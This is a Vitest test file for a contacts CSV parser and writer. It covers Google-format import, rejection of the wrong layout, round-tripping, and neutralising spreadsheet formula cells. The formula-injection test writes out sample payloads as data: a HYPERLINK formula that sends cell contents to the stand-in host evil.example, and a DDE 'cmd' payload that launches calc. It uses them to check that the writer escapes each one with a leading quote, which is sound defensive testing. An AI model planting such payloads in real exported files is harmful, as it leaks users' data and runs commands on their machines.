import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CsvLayoutError, parseContactsCsv, writeContactsCsv } from './contacts-csv.js';

/** Cells a spreadsheet would evaluate: every OWASP trigger character, with typical payloads after it. */
const triggers = ['=', '+', '-', '@', '\t', '\r'];
const payloads = [
  'HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "cmd|' /C calc'!A0",
  'SUM(1+1)*cmd',
  '2+3',
];
const formulaValues = [
  ...triggers.flatMap((t) => payloads.map((p) => `${t}${p}`)),
  // Already quoted once or twice: one more quote keeps the round trip exact.
  "'=1+2",
  "''@SUM(A1)",
];

describe('contacts CSV', () => {
  it('reads Google rows: several addresses in one cell, the primary mark, labels as groups, line numbers', () => {
    const csv =
      'First Name,Last Name,Labels,E-mail 1 - Label,E-mail 1 - Value,Notes\r\n' +
      'Liisa,Korhonen,* myContacts ::: Ystävät,* Home,a@example.fi ::: b@example.fi,"kaksi\nriviä"\r\n' +
      ',,,,,\r\n';
    const { layout, rows, problems } = parseContactsCsv(csv, null);
    expect(layout).toBe('google');
    expect(rows[0]).toMatchObject({
      line: 2,
      fields: {
        fullName: 'Liisa Korhonen',
        emails: [
          { value: 'a@example.fi', label: 'home' },
          { value: 'b@example.fi', label: 'home' },
        ],
        notes: 'kaksi\nriviä',
      },
      categories: ['Ystävät'],
    });
    expect(problems).toEqual([expect.objectContaining({ line: 4, reason: 'noNameOrEmail' })]);
  });

  it('refuses a CSV without an e-mail column, or one of the other layout than chosen', () => {
    expect(() => parseContactsCsv('Name,Phone\r\nMatti,1\r\n', null)).toThrow(CsvLayoutError);
    expect(() => parseContactsCsv('First Name,E-mail Address\r\nA,a@x.fi\r\n', 'google')).toThrow(/Google/);
  });

  it('writes a header row and reads its own output back', () => {
    const csv = writeContactsCsv([
      {
        fields: {
          fullName: 'Анна, "Аня"',
          emails: [{ value: 'anna@x.ru', label: 'work' }],
          phones: [],
          organization: '',
          notes: '',
        },
        groups: ['Коллеги'],
      },
    ]);
    expect(csv.split('\r\n')[0]).toBe(
      'Name,Organization 1 - Name,Notes,Group Membership,E-mail 1 - Type,E-mail 1 - Value,Phone 1 - Type,Phone 1 - Value',
    );
    const back = parseContactsCsv(csv, null).rows[0]!;
    expect(back.fields).toMatchObject({
      fullName: 'Анна, "Аня"',
      emails: [{ value: 'anna@x.ru', label: 'work' }],
    });
    expect(back.categories).toEqual(['Коллеги']);
  });

  it('neutralises every formula cell with a leading quote, and reads its own output back unchanged', () => {
    const contacts = formulaValues.map((value, i) => ({
      fields: {
        fullName: value,
        emails: [{ value: `p${i}@example.test`, label: value.slice(0, 20) }],
        phones: [{ value: `+358 40 ${i}`, label: 'mobile' }],
        organization: value,
        notes: value,
      },
      groups: [value],
    }));
    const csv = writeContactsCsv(contacts);
    const cells = (parse(csv, { relax_column_count: true }) as string[][]).slice(1).flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(cells).toContain("'+358 40 0");
    const back = parseContactsCsv(csv, null).rows;
    expect(back).toHaveLength(contacts.length);
    back.forEach((row, i) => {
      // The import trims cells, so a leading TAB or CR does not come back (it never did).
      const value = formulaValues[i]!.trim();
      expect(row.fields).toMatchObject({ fullName: value, organization: value, notes: value });
      expect(row.fields.phones[0]!.value).toBe(`+358 40 ${i}`);
      expect(row.categories).toEqual([value]);
    });
  });
});
